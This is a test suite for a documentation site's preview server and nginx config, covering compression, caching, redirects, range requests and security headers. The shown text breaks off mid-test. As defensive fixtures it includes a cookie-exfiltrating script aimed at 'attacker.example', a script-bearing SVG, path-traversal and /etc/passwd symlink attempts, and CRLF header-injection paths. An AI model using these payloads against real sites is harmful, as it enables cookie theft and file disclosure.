/**
 * The static preview server that `npm start` runs (tools/scripts/serve.mjs) and the production
 * nginx config (tools/nginx/hpcdocs.conf), held to one contract: precompressed brotli and gzip
 * with q-values, path traversal and symlinks out of the site refused, content types, cache headers
 * (immutable only for content-hashed names), redirects with a safe Location, 404, validators and
 * 304, byte ranges, and the security headers on every response. Then what only the preview server
 * has to prove itself (nginx does it by construction): it survives aborted downloads, running out
 * of file descriptors and files vanishing under it, in a child process whose descriptors are counted.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { rename } from 'node:fs/promises';
import { request, type Server } from 'node:http';
import { connect, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { baseUrlBannerScript, redirectPage } from '@hpcdocs/router/server';
import { acceptedEncodings, createPreviewServer, INLINE_SCRIPTS_FILE, inlineScriptHashes, isHashedAsset, sitePolicy, SVG_POLICY } from '../scripts/serve.mjs';
import { findNginx, startNginx } from '../nginx/nginx.mjs';

interface Reply {
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly body: Buffer;
}

const SERVE = resolve(import.meta.dirname, '../scripts/serve.mjs');
const SECRET = 'top-secret-outside-the-site';
const banner = baseUrlBannerScript('/doc/');
const page = `<!doctype html><html><head><title>Quickstart</title>${banner}<script id="__hpc_boot" type="application/json">{"route":null}</script></head><body>${'<p>GPU instances.</p>'.repeat(100)}</body></html>`;
const pageBr = brotliCompressSync(page);
const pageGz = gzipSync(page);
/** A page into which something other than the build put an inline script (a doc that slipped one through, a page of the static folder). */
const injected = page.replace('</head>', '<script>fetch("https://attacker.example/?c="+document.cookie)</script></head>');
const script = 'export const answer = 42;\n'.repeat(100);
const big = randomBytes(32 * 1024 * 1024);
const evilSvg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';

/** Files the build names with a content hash (real names from dist/apps/docs), and look-alikes that carry none. */
const HASHED = [
  'assets/index-uV7MhQr4.js',
  'assets/engine-C-iyfKNv.js',
  'assets/style-BNQymJW-.css',
  'assets/app-Ab12Cd34.js',
  'assets/content/routes.GWgJGkzb.json',
  'assets/content/quickstart-index.viG50HZ2.json',
  'assets/content/code.xY7ZkBxP.css',
  'assets/search/search-index.32f17965c5a1.json',
  'assets/search/search-index.texts-0.40e1a6b039dd.json',
  'assets/img/diagram.Ab3_x9Zq.png',
];
const UNHASHED = [
  'assets/company-homepage.svg',
  'assets/my-longword-filename.png',
  'assets/img/company-homepage.svg',
  'assets/img/my-longword.filename.png',
  'img/company-homepage.svg',
  'img/logo.svg',
  'assets/content/homepage.abcdefgh.json',
  'assets/search/search-index.deadbeefcafe.json',
  'assets/search/search-index.32f17965c5.json',
  'assets/content/routes-GWgJGkzb.json',
  'sitemap.xml',
];

/** A built site in miniature, next to a secret the server must never hand out. */
function makeSite(workspace: string): string {
  writeFileSync(join(workspace, 'secret.txt'), SECRET);
  mkdirSync(join(workspace, 'outside'));
  writeFileSync(join(workspace, 'outside/secret.txt'), SECRET);
  const site = join(workspace, 'site');
  const write = (path: string, content: string | Buffer) => {
    mkdirSync(join(site, path, '..'), { recursive: true });
    writeFileSync(join(site, path), content);
  };
  write('index.html', page);
  write('docs/injected/index.html', injected);
  // The build's record of the inline scripts it wrote: here, the banner every page carries.
  write(INLINE_SCRIPTS_FILE, JSON.stringify({ scripts: inlineScriptHashes(banner) }));
  write('docs/quickstart/index.html', page);
  write('docs/quickstart/index.html.gz', pageGz);
  write('docs/quickstart/index.html.br', pageBr);
  write('404.html', '<!doctype html><title>Page not found</title><h1>Page not found</h1>');
  write('assets/app-Ab12Cd34.js', script);
  write('assets/app-Ab12Cd34.js.gz', gzipSync(script));
  write('assets/theme-Zx98Yw76.css', 'body{color:red}');
  write('assets/logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>');
  write('assets/evil.svg', evilSvg);
  write('assets/content/routes.1a2b3c4d.json', '{}');
  write('sitemap.xml', '<urlset/>');
  write('big.bin', big);
  for (const path of [...HASHED, ...UNHASHED]) if (!existsSync(join(site, path))) write(path, `/* ${path} */`);
  // Symlinks leading out of the site: a file, a folder, and the system's password file.
  symlinkSync(join(workspace, 'secret.txt'), join(site, 'leak.txt'));
  symlinkSync(join(workspace, 'outside'), join(site, 'linked'));
  symlinkSync('/etc/passwd', join(site, 'passwd.txt'));
  return site;
}

function client(origin: string) {
  const { hostname, port } = new URL(origin);
  /** Sends a request: the path goes on the wire exactly as written (no client-side normalisation). */
  return (path: string, headers: Record<string, string> = {}, method = 'GET'): Promise<Reply> =>
    new Promise((done, fail) => {
      const req = request({ host: hostname, port, path, method, headers, agent: false }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
        res.on('error', fail);
      });
      req.on('error', fail);
      req.end();
    });
}

/** The raw bytes of a response's status line and headers, for what an HTTP client would hide. */
function rawHead(origin: string, path: string): Promise<Buffer> {
  return rawExchange(origin, `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
}

/** Sends `request` as it is written, bytes a client library would refuse to send included; resolves with the response's head. */
function rawExchange(origin: string, request: string): Promise<Buffer> {
  const { hostname, port } = new URL(origin);
  return new Promise((done, fail) => {
    const socket = connect(Number(port), hostname);
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => {
      chunks.push(chunk);
      const all = Buffer.concat(chunks);
      const end = all.indexOf('\r\n\r\n');
      if (end >= 0) {
        socket.destroy();
        done(all.subarray(0, end));
      }
    });
    socket.on('error', fail);
    socket.on('end', () => done(Buffer.concat(chunks)));
    socket.write(request, 'latin1');
  });
}

const nginxReady = findNginx() !== null;

describe('given the preview server\'s helpers', () => {
  it('should treat exactly the build\'s content-hashed names as hashed', () => {
    expect(HASHED.filter((path) => !isHashedAsset(path))).toEqual([]);
    expect(UNHASHED.filter((path) => isHashedAsset(path))).toEqual([]);
  });

  it('should parse Accept-Encoding with q-values, * and identity, preferring br then gzip', () => {
    expect(acceptedEncodings(undefined)).toEqual([]);
    expect(acceptedEncodings('gzip, deflate, br')).toEqual(['br', 'gzip']);
    expect(acceptedEncodings('br;q=0, gzip')).toEqual(['gzip']);
    expect(acceptedEncodings('br;q=0, gzip;q=0')).toEqual([]);
    expect(acceptedEncodings('gzip;q=1.0, br;q=0.5')).toEqual(['br', 'gzip']);
    expect(acceptedEncodings('*')).toEqual(['br', 'gzip']);
    expect(acceptedEncodings('br;q=0, *;q=0.5')).toEqual(['gzip']);
    expect(acceptedEncodings('*;q=0, identity')).toEqual([]);
    expect(acceptedEncodings('identity')).toEqual([]);
    expect(acceptedEncodings('BR;Q=0.001, x-gzip')).toEqual(['br', 'gzip']);
    expect(acceptedEncodings('br;q=2, gzip;q=abc')).toEqual([]);
  });

  it('should hash inline scripts as browsers do, skipping external scripts and JSON data blocks', () => {
    const [bannerHash] = inlineScriptHashes(banner);
    expect(bannerHash).toMatch(/^sha256-[A-Za-z0-9+/]{43}=$/);
    expect(inlineScriptHashes(page)).toEqual([bannerHash]);
    expect(inlineScriptHashes('<script src="/a.js"></script><script type="application/json">{}</script><script type="module">x()</script>')).toHaveLength(1);
    expect(inlineScriptHashes('<script>a()\r\nb()</script>')).toEqual(inlineScriptHashes('<script>a()\nb()</script>'));
  });
});

// One contract, two servers: the preview server in this process, and nginx with hpcdocs.conf
// (skipped where nginx is not installed; CI installs it).
// nginx serves the .gz files only (hpcdocs.conf says why), so a client that accepts both gets gzip.
describe.each([
  { name: 'preview server', skip: false, best: 'br' },
  { name: 'nginx', skip: !nginxReady, best: 'gzip' },
])('given the $name serving a built site', ({ name, skip, best }) => {
  let workspace: string;
  let close: () => Promise<void>;
  let origin: string;
  let send: ReturnType<typeof client>;

  beforeAll(async () => {
    if (skip) return;
    workspace = mkdtempSync(join(tmpdir(), 'hpcdocs-serve-'));
    const site = makeSite(workspace);
    if (name === 'nginx') {
      const nginx = await startNginx({ dir: site });
      origin = nginx.origin;
      close = nginx.close;
    } else {
      const server: Server = createPreviewServer({ dir: site });
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
      origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      close = () => new Promise<void>((done) => server.close(() => done()));
    }
    send = client(origin);
  });

  afterAll(async () => {
    if (skip) return;
    await close();
    rmSync(workspace, { recursive: true, force: true });
  });

  describe.skipIf(skip)('when the client accepts compressed files', () => {
    it('should send the best coding the client accepts, byte-identical once decoded', async () => {
      const reply = await send('/doc/docs/quickstart/', { 'Accept-Encoding': 'gzip, deflate, br' });
      expect(reply.status).toBe(200);
      expect(reply.headers['content-encoding']).toBe(best);
      expect(reply.headers['vary']).toBe('Accept-Encoding');
      expect((best === 'br' ? brotliDecompressSync(reply.body) : gunzipSync(reply.body)).toString()).toBe(page);
    });

    it('should send gzip when the client accepts only gzip', async () => {
      const reply = await send('/doc/docs/quickstart/', { 'Accept-Encoding': 'gzip' });
      expect(reply.headers['content-encoding']).toBe('gzip');
      expect(gunzipSync(reply.body).toString()).toBe(page);
    });

    it('should send the plain file when the client accepts no encoding', async () => {
      const reply = await send('/doc/docs/quickstart/');
      expect(reply.headers['content-encoding']).toBeUndefined();
      expect(reply.body.toString()).toBe(page);
      expect(Number(reply.headers['content-length'])).toBe(Buffer.byteLength(page));
    });

    it('should fall back to gzip for a file that has no brotli copy', async () => {
      const reply = await send('/doc/assets/app-Ab12Cd34.js', { 'Accept-Encoding': 'br, gzip' });
      expect(reply.headers['content-encoding']).toBe('gzip');
      expect(gunzipSync(reply.body).toString()).toBe(script);
    });

    it('should honour q=0: a refused coding is never sent', async () => {
      const noBrotli = await send('/doc/docs/quickstart/', { 'Accept-Encoding': 'br;q=0, gzip' });
      expect(noBrotli.headers['content-encoding']).toBe('gzip');
      expect(gunzipSync(noBrotli.body).toString()).toBe(page);
      const neither = await send('/doc/docs/quickstart/', { 'Accept-Encoding': 'br;q=0, gzip;q=0' });
      expect(neither.headers['content-encoding']).toBeUndefined();
      expect(neither.body.toString()).toBe(page);
    });
  });

  describe.skipIf(skip)('when a request tries to leave the site folder', () => {
    const attempts = [
      '/doc/../../etc/passwd',
      '/doc/../secret.txt',
      '/doc/%2e%2e/secret.txt',
      '/doc/%2E%2E/%2E%2E/etc/passwd',
      '/doc/..%2fsecret.txt',
      '/doc/..%5csecret.txt',
      '/doc/assets/..%2f..%2fsecret.txt',
      '/doc/%252e%252e/secret.txt',
      '/doc/%00/secret.txt',
      '/doc/%c0%ae%c0%ae/secret.txt',
      '/../secret.txt',
      // Symlinks in the site that lead out of it: a file, a folder, the system's password file.
      '/doc/leak.txt',
      '/doc/linked/secret.txt',
      '/doc/passwd.txt',
    ];
    it.each(attempts)('should refuse %s without reading outside the folder', async (path) => {
      const reply = await send(path);
      expect([400, 404]).toContain(reply.status);
      expect(reply.body.toString()).not.toContain(SECRET);
      expect(reply.body.toString()).not.toContain('root:');
    });
  });

  describe.skipIf(skip)('given files of each kind', () => {
    it.each([
      ['/doc/docs/quickstart/', 'text/html; charset=utf-8'],
      ['/doc/assets/app-Ab12Cd34.js', 'text/javascript; charset=utf-8'],
      ['/doc/assets/theme-Zx98Yw76.css', 'text/css; charset=utf-8'],
      ['/doc/assets/logo.svg', 'image/svg+xml'],
      ['/doc/assets/content/routes.1a2b3c4d.json', 'application/json; charset=utf-8'],
      ['/doc/sitemap.xml', 'application/xml; charset=utf-8'],
    ])('should serve %s as %s with nosniff', async (path, type) => {
      const reply = await send(path);
      expect(reply.status).toBe(200);
      expect(reply.headers['content-type']).toBe(type);
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
    });

    it('should cache content-hashed assets immutably for a year', async () => {
      for (const path of ['assets/app-Ab12Cd34.js', 'assets/theme-Zx98Yw76.css', 'assets/content/routes.1a2b3c4d.json', ...HASHED]) {
        expect([path, (await send(`/doc/${path}`)).headers['cache-control']]).toEqual([path, 'public, max-age=31536000, immutable']);
      }
    });

    it('should make HTML and unhashed files revalidate, company-homepage.svg and my-longword-filename.png included', async () => {
      for (const path of ['docs/quickstart/', 'assets/logo.svg', ...UNHASHED]) {
        const reply = await send(`/doc/${path}`);
        expect([path, reply.status, reply.headers['cache-control']]).toEqual([path, 200, 'no-cache']);
      }
    });
  });

  describe.skipIf(skip)('when a path is not a clean route', () => {
    it('should redirect .html and /index.html to the clean path, keeping the query', async () => {
      const html = await send('/doc/docs/quickstart/index.html?q=gpu');
      expect(html.status).toBe(301);
      expect(html.headers['location']).toBe('/doc/docs/quickstart/?q=gpu');
      const suffix = await send('/doc/docs/api.html');
      expect(suffix.status).toBe(301);
      expect(suffix.headers['location']).toBe('/doc/docs/api');
      const home = await send('/doc/index.html');
      expect(home.status).toBe(301);
      expect(home.headers['location']).toBe('/doc/');
    });

    it('should redirect the server root and the base without its slash to the base path', async () => {
      for (const path of ['/', '/doc']) {
        const reply = await send(path);
        expect(reply.status).toBe(302);
        expect(reply.headers['location']).toBe('/doc/');
      }
    });

    it.each([
      '/doc/caf%C3%A9/index.html',
      '/doc/caf%C3%A9.html?q=%C3%A9',
      '/doc/a%0D%0ASet-Cookie:%20stolen=1/index.html',
      '/doc/a%0D%0ASet-Cookie:%20stolen=1.html',
      '/doc/a%3Cb%3E%22.html',
      '/doc/x%3Fy.html',
    ])('should never put a raw byte or a header of its own into Location (%s)', async (path) => {
      const head = await rawHead(origin, path);
      const status = Number(head.toString('latin1').split(' ')[1]);
      expect([301, 400, 404]).toContain(status);
      // Only printable ASCII between the CRLFs: no raw byte, no lone CR or LF, no injected header.
      for (const line of head.toString('latin1').split('\r\n')) expect(line).toMatch(/^[\x20-\x7e]*$/);
      expect(head.toString('latin1').split('\r\n').filter((line) => /^set-cookie:/i.test(line))).toEqual([]);
      const location = /\r\nLocation: ([^\r]*)/i.exec(head.toString('latin1'))?.[1];
      if (status === 301) expect(location).toMatch(/^\/doc\/[!#-;=?-~]*$/);
    });

    it('should answer an unknown path with 404.html and status 404, never cached', async () => {
      const reply = await send('/doc/docs/nowhere');
      expect(reply.status).toBe(404);
      expect(reply.body.toString()).toContain('Page not found');
      expect(reply.headers['cache-control']).toBe('no-cache');
    });

    it('should answer an undecodable path with the not-found page and status 400', async () => {
      const reply = await send('/doc/docs/%E0%A4%A');
      expect(reply.status).toBe(400);
      expect(reply.body.toString()).toContain('Page not found');
    });

    it('should answer HEAD without a body and refuse other methods', async () => {
      const head = await send('/doc/docs/quickstart/', {}, 'HEAD');
      expect(head.status).toBe(200);
      expect(head.body.length).toBe(0);
      const post = await send('/doc/docs/quickstart/', {}, 'POST');
      expect(post.status).toBe(405);
      expect(post.headers['allow']).toBe('GET, HEAD');
    });
  });

  describe.skipIf(skip)('when the client revalidates', () => {
    it('should send an ETag and Last-Modified, and 304 for If-None-Match or If-Modified-Since', async () => {
      for (const encoding of ['', 'br', 'gzip']) {
        const headers: Record<string, string> = encoding ? { 'Accept-Encoding': encoding } : {};
        const first = await send('/doc/docs/quickstart/', headers);
        const etag = String(first.headers['etag']);
        const modified = String(first.headers['last-modified']);
        expect(etag).toMatch(/^(?:W\/)?"[^"]+"$/);
        expect(Number.isNaN(Date.parse(modified))).toBe(false);
        const byTag = await send('/doc/docs/quickstart/', { ...headers, 'If-None-Match': etag });
        expect([encoding, byTag.status, byTag.body.length]).toEqual([encoding, 304, 0]);
        expect(byTag.headers['etag']).toBe(etag);
        const byDate = await send('/doc/docs/quickstart/', { ...headers, 'If-Modified-Since': modified });
        expect([encoding, byDate.status]).toEqual([encoding, 304]);
      }
      const stale = await send('/doc/docs/quickstart/', { 'If-None-Match': '"not-the-tag"' });
      expect(stale.status).toBe(200);
      const old = await send('/doc/docs/quickstart/', { 'If-Modified-Since': new Date(0).toUTCString() });
      expect(old.status).toBe(200);
    });

    it('should not share one ETag between the brotli, gzip and plain variants', async () => {
      const replies = await Promise.all(['br', 'gzip', 'identity'].map((encoding) => send('/doc/docs/quickstart/', { 'Accept-Encoding': encoding })));
      const tags = new Map(replies.map((reply) => [reply.headers['content-encoding'] ?? 'identity', reply.headers['etag']]));
      expect(tags.size).toBe(best === 'br' ? 3 : 2);
      expect(new Set(tags.values()).size).toBe(tags.size);
    });
  });

  describe.skipIf(skip)('when the client asks for a byte range', () => {
    it('should send 206 with Content-Range for a satisfiable single range', async () => {
      const head = await send('/doc/big.bin', { Range: 'bytes=0-99' });
      expect(head.status).toBe(206);
      expect(head.headers['content-range']).toBe(`bytes 0-99/${big.length}`);
      expect(head.body.equals(big.subarray(0, 100))).toBe(true);
      const middle = await send('/doc/big.bin', { Range: 'bytes=1000000-1000009' });
      expect(middle.body.equals(big.subarray(1000000, 1000010))).toBe(true);
      const tail = await send('/doc/big.bin', { Range: 'bytes=-10' });
      expect(tail.status).toBe(206);
      expect(tail.headers['content-range']).toBe(`bytes ${big.length - 10}-${big.length - 1}/${big.length}`);
      expect(tail.body.equals(big.subarray(big.length - 10))).toBe(true);
      const open = await send('/doc/big.bin', { Range: `bytes=${big.length - 5}-` });
      expect(open.body.equals(big.subarray(big.length - 5))).toBe(true);
    });

    it('should answer 416 with the size for a range past the end', async () => {
      const reply = await send('/doc/big.bin', { Range: `bytes=${big.length}-` });
      expect(reply.status).toBe(416);
      expect(reply.headers['content-range']).toBe(`bytes */${big.length}`);
    });

    it('should send the right bytes of the page whatever codings the client accepts', async () => {
      const reply = await send('/doc/docs/quickstart/', { Range: 'bytes=0-14', 'Accept-Encoding': 'gzip, br' });
      // Either a range of the coding sent, or (allowed for any range request) the whole of it:
      // the preview server ranges the plain file only, nginx sends a brotli file whole.
      const encoding = String(reply.headers['content-encoding'] ?? '');
      const whole = encoding === 'br' ? pageBr : encoding === 'gzip' ? pageGz : Buffer.from(page);
      if (reply.status === 206) {
        expect(reply.headers['content-range']).toBe(`bytes 0-14/${whole.length}`);
        expect(reply.body.equals(whole.subarray(0, 15))).toBe(true);
      } else {
        expect(reply.status).toBe(200);
        expect(reply.body.equals(whole)).toBe(true);
      }
    });
  });

  describe.skipIf(skip)('given the security headers', () => {
    const requests: [string, Record<string, string>, string][] = [
      ['/doc/docs/quickstart/', {}, 'GET'],
      ['/doc/assets/app-Ab12Cd34.js', { 'Accept-Encoding': 'gzip' }, 'GET'],
      ['/doc/docs/nowhere', {}, 'GET'],
      ['/doc/docs/%E0%A4%A', {}, 'GET'],
      ['/doc/docs/quickstart/index.html', {}, 'GET'],
      ['/', {}, 'GET'],
      ['/doc/', {}, 'POST'],
      ['/doc/big.bin', { Range: 'bytes=0-0' }, 'GET'],
      ['/doc/big.bin', { Range: 'bytes=999999999-' }, 'GET'],
      ['/doc/%2e%2e/secret.txt', {}, 'GET'],
      ['/doc/docs/quickstart/', {}, 'HEAD'],
    ];
    it.each(requests)('should send CSP with frame-ancestors, Referrer-Policy and nosniff on %s (%j, %s)', async (path, headers, method) => {
      const reply = await send(path, headers, method);
      expect(String(reply.headers['content-security-policy'])).toMatch(/frame-ancestors '(?:self|none)'/);
      expect(reply.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
      expect(reply.headers['x-frame-options']).toBe('SAMEORIGIN');
    });

    // Requests the HTTP layer answers before any handler runs: Node's own parser and checks, nginx's.
    it.each([
      ['no Host header (HTTP/1.1)', 'GET /doc/ HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
      // HTTP lets a server ignore an expectation it does not know (nginx does): both answer the request.
      ['an Expect other than 100-continue', 'GET /doc/ HTTP/1.1\r\nHost: localhost\r\nExpect: the-impossible\r\nConnection: close\r\n\r\n', 200],
      ['a header line without a colon', 'GET /doc/ HTTP/1.1\r\nHost: localhost\r\nBad Header Line\r\n\r\n', 400],
      ['a space in the header name', 'GET /doc/ HTTP/1.1\r\nHost: localhost\r\nBad Name: x\r\n\r\n', 400],
    ])('should answer a request with %s with its status and the security headers', async (_, request, status) => {
      const head = (await rawExchange(origin, request)).toString('latin1');
      expect(head).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
      const headers = new Map(head.split('\r\n').slice(1).map((line) => [line.slice(0, line.indexOf(':')).toLowerCase(), line.slice(line.indexOf(':') + 1).trim()]));
      expect(headers.get('content-security-policy')).toMatch(/frame-ancestors 'self'/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
    });

    it('should send 304s the same headers', async () => {
      const etag = String((await send('/doc/docs/quickstart/')).headers['etag']);
      const reply = await send('/doc/docs/quickstart/', { 'If-None-Match': etag });
      expect(reply.status).toBe(304);
      expect(reply.headers['content-security-policy']).toContain("frame-ancestors 'self'");
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
    });

    it('should give a page the site policy allowing exactly its inline base-URL banner script', async () => {
      const reply = await send('/doc/docs/quickstart/');
      // The hash in hpcdocs.conf must follow the router's banner script whenever that changes.
      expect(reply.headers['content-security-policy']).toBe(sitePolicy(inlineScriptHashes(banner)));
      expect(String(reply.headers['content-security-policy'])).toMatch(/script-src 'self' 'sha256-[^']+'; /);
      expect(String(reply.headers['content-security-policy'])).not.toMatch(/script-src[^;]*unsafe/);
    });

    it('should not allow an inline script the build did not write', async () => {
      const reply = await send('/doc/docs/injected/');
      expect(reply.body.toString()).toBe(injected);
      expect(reply.headers['content-security-policy']).toBe(sitePolicy(inlineScriptHashes(banner)));
    });

    it("should never serve the build's record of its inline scripts", async () => {
      for (const path of [`/doc/${INLINE_SCRIPTS_FILE}`, `/doc//${INLINE_SCRIPTS_FILE}`, `/doc/%2E${INLINE_SCRIPTS_FILE.slice(1)}`, `/doc/docs/../${INLINE_SCRIPTS_FILE}`]) {
        const reply = await send(path);
        expect(reply.status, path).toBe(404);
        expect(reply.body.toString()).not.toContain('sha256-');
      }
    });

    it('should sandbox an SVG opened on its own so it cannot run script', async () => {
      const reply = await send('/doc/assets/evil.svg');
      expect(reply.status).toBe(200);
      expect(reply.headers['content-security-policy']).toBe(SVG_POLICY);
      expect(SVG_POLICY).toMatch(/(?:^|; )sandbox(?:;|$)/);
      expect(SVG_POLICY).toContain("default-src 'none'");
      expect(SVG_POLICY).not.toMatch(/script-src/);
    });
  });
});

describe('given the preview server alone', () => {
  let workspace: string;
  let server: Server;
  let send: ReturnType<typeof client>;

  beforeAll(async () => {
    workspace = mkdtempSync(join(tmpdir(), 'hpcdocs-serve-'));
    const site = makeSite(workspace);
    mkdirSync(join(site, 'docs/moved'), { recursive: true });
    writeFileSync(join(site, 'docs/moved/index.html'), redirectPage('/doc/docs/quickstart/', 'Moved'));
    writeFileSync(join(site, INLINE_SCRIPTS_FILE), JSON.stringify({ scripts: inlineScriptHashes(banner + redirectPage('/doc/docs/quickstart/', 'Moved')) }));
    symlinkSync(join(site, 'sitemap.xml'), join(site, 'map-link.xml'));
    symlinkSync(join(site, 'docs/quickstart'), join(site, 'docs/start'));
    server = createPreviewServer({ dir: site });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    send = client(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
  });

  afterAll(async () => {
    await new Promise<void>((done) => server.close(() => done()));
    rmSync(workspace, { recursive: true, force: true });
  });

  it('should allow a redirect page its own inline script, which the build recorded', async () => {
    const reply = await send('/doc/docs/moved/');
    const [hash] = inlineScriptHashes(redirectPage('/doc/docs/quickstart/', 'Moved'));
    expect(reply.headers['content-security-policy']).toBe(sitePolicy([String(hash)]));
  });

  it('should allow no inline script at all in a folder without the record, or with a record changed since', async () => {
    const record = join(workspace, 'site', INLINE_SCRIPTS_FILE);
    const text = readFileSync(record, 'utf8');
    try {
      rmSync(record);
      // The record is looked at again within a second.
      await expect.poll(async () => (await send('/doc/docs/quickstart/')).headers['content-security-policy'], { timeout: 10_000 }).toBe(sitePolicy());
      writeFileSync(record, '{"scripts": "not a list"}');
      await expect.poll(async () => (await send('/doc/docs/quickstart/')).headers['content-security-policy'], { timeout: 10_000 }).toBe(sitePolicy());
    } finally {
      writeFileSync(record, text);
    }
    await expect.poll(async () => (await send('/doc/docs/quickstart/')).headers['content-security-policy'], { timeout: 10_000 }).toBe(sitePolicy(inlineScriptHashes(banner)));
  });

  it('should percent-encode a redirect\'s non-ASCII path and CR/LF', async () => {
    expect((await send('/doc/caf%C3%A9/index.html')).headers['location']).toBe('/doc/caf%C3%A9/');
    const crlf = await send('/doc/a%0D%0ASet-Cookie:%20stolen=1.html?q=%0d');
    expect(crlf.status).toBe(301);
    expect(crlf.headers['location']).toBe('/doc/a%0D%0ASet-Cookie%3A%20stolen%3D1?q=%0d');
    expect(crlf.headers['set-cookie']).toBeUndefined();
  });

  it('should send br to a client that accepts any coding (*), and gzip to one that refuses br', async () => {
    expect((await send('/doc/docs/quickstart/', { 'Accept-Encoding': '*' })).headers['content-encoding']).toBe('br');
    expect((await send('/doc/docs/quickstart/', { 'Accept-Encoding': 'br;q=0, *' })).headers['content-encoding']).toBe('gzip');
  });

  it('should follow a symlink that stays inside the site', async () => {
    expect((await send('/doc/map-link.xml')).body.toString()).toBe('<urlset/>');
    expect((await send('/doc/docs/start/')).body.toString()).toBe(page);
  });

  it('should refuse a file replaced by a symlink out of the site right after it was served', async () => {
    const file = join(workspace, 'site/swapped.txt');
    writeFileSync(file, 'harmless');
    expect((await send('/doc/swapped.txt')).body.toString()).toBe('harmless');
    rmSync(file);
    symlinkSync('/etc/passwd', file);
    const reply = await send('/doc/swapped.txt');
    expect(reply.status).toBe(404);
    expect(reply.body.toString()).not.toContain('root:');
  });
});

/** The preview server in a child process, so its descriptors and its exit can be watched. */
async function startChild(dir: string, maxFiles?: number): Promise<{ child: ChildProcess; origin: string; fds: () => number; exited: () => boolean; stop: () => Promise<void> }> {
  // createPreviewServer() on a free port, the module and folder passed through the environment.
  const main = `const { createPreviewServer } = await import(process.env.SERVE_MODULE);
    const server = createPreviewServer({ dir: process.env.SERVE_DIR });
    server.listen(0, '127.0.0.1', () => console.log('http://localhost:' + server.address().port + '/doc/'));`;
  const args = ['-c', `${maxFiles ? `ulimit -n ${maxFiles} && ` : ''}exec "$0" "$@"`, process.execPath, '--input-type=module', '-e', main];
  const child = spawn('sh', args, { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, SERVE_MODULE: SERVE, SERVE_DIR: dir } });
  let output = '';
  child.stderr?.on('data', (chunk: Buffer) => {
    output += chunk.toString();
  });
  const origin = await new Promise<string>((done, fail) => {
    child.stdout?.on('data', (chunk: Buffer) => {
      output += chunk.toString();
      const match = /http:\/\/localhost:(\d+)\//.exec(output);
      if (match) done(`http://127.0.0.1:${match[1]}`);
    });
    child.once('exit', (code) => fail(new Error(`the server exited (${code}) before listening:\n${output}`)));
  });
  let gone = false;
  const exit = new Promise<void>((done) =>
    child.once('exit', () => {
      gone = true;
      done();
    }),
  );
  return {
    child,
    origin,
    fds: () => readdirSync(`/proc/${child.pid}/fd`).length,
    exited: () => gone,
    stop: async () => {
      if (!gone) child.kill();
      await exit;
      if (output.includes('Error')) console.log(output);
    },
  };
}

/** A keep-alive connection that sends one request at a time and reads each response whole. */
function keepAlive(origin: string): Promise<{ get: (path: string) => Promise<{ status: number; headers: string }>; socket: Socket }> {
  const { hostname, port } = new URL(origin);
  return new Promise((ready, fail) => {
    const socket = connect(Number(port), hostname, () => ready({ get, socket }));
    socket.once('error', fail);
    let buffer = Buffer.alloc(0);
    let waiting: ((reply: { status: number; headers: string } | Error) => void) | undefined;
    const check = () => {
      const end = buffer.indexOf('\r\n\r\n');
      if (end < 0 || !waiting) return;
      const headers = buffer.subarray(0, end).toString('latin1');
      const length = Number(/\r\ncontent-length: (\d+)/i.exec(headers)?.[1] ?? 0);
      if (buffer.length < end + 4 + length) return;
      buffer = buffer.subarray(end + 4 + length);
      const done = waiting;
      waiting = undefined;
      done({ status: Number(headers.split(' ')[1]), headers });
    };
    socket.on('data', (chunk: Buffer) => {
      buffer = Buffer.concat([buffer, chunk]);
      check();
    });
    const closed = () => waiting?.(new Error('connection closed'));
    socket.on('close', closed);
    socket.on('error', closed);
    function get(path: string) {
      return new Promise<{ status: number; headers: string }>((done, failed) => {
        waiting = (reply) => (reply instanceof Error ? failed(reply) : done(reply));
        socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
      });
    }
  });
}

describe.skipIf(process.platform !== 'linux')('given the preview server in its own process', () => {
  let workspace: string;
  let site: string;

  beforeAll(() => {
    workspace = mkdtempSync(join(tmpdir(), 'hpcdocs-serve-'));
    site = makeSite(workspace);
  });

  afterAll(() => {
    rmSync(workspace, { recursive: true, force: true });
  });

  it('should release the file of every download the client aborts mid-body', async () => {
    const server = await startChild(site);
    try {
      const send = client(server.origin);
      await send('/doc/docs/quickstart/');
      const baseline = server.fds();
      const { hostname, port } = new URL(server.origin);
      // Twenty readers take the first bytes of a 32 MB file, then hang up.
      await Promise.all(
        Array.from(
          { length: 20 },
          () =>
            new Promise<void>((done, fail) => {
              const req = request({ host: hostname, port, path: '/doc/big.bin', agent: false }, (res) => {
                res.on('error', () => undefined);
                res.once('data', () => {
                  req.destroy();
                  done();
                });
              });
              req.on('error', (error: NodeJS.ErrnoException) => (error.code === 'ECONNRESET' || req.destroyed ? undefined : fail(error)));
              req.end();
            }),
        ),
      );
